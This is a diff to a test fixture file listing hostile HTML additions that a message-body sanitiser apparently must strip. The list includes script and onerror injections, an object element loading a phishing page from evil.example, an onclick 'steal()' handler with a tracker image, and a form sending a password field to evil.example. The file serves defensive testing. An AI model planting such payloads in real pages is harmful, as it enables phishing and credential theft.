@@ -141,12 +141,14 @@ export const READING_FIXTURES: Record<string, JSONContent> = {
 
 /**
  * What a hostile sender adds to a body the ENT's editor wrote (the ENT's API takes any HTML):
- * each must be removed, and the rest must look exactly like the benign body.
+ * each must be removed, and the rest must look exactly like the benign body. (An `<iframe>`
+ * is not among them: it shows as a note with its address, as the ENT's own embeds do; its
+ * cleaning is crates/core/src/body.rs's `a_hostile_media_element_…` test.)
  */
 export const HOSTILE_ADDITIONS = [
   '<script>document.body.style.background="red"</script>',
   '<img src="x" onerror="document.body.style.background=\'red\'">',
-  '<iframe src="https://evil.example/phish" width="400" height="200"></iframe>',
+  '<object data="https://evil.example/phish" width="400" height="200"></object>',
   '<p onclick="steal()" style="background:url(https://tracker.example/p.png)"></p>',
   '<form action="https://evil.example/"><input name="password"></form>',
   '<style>body{background:red}</style>',
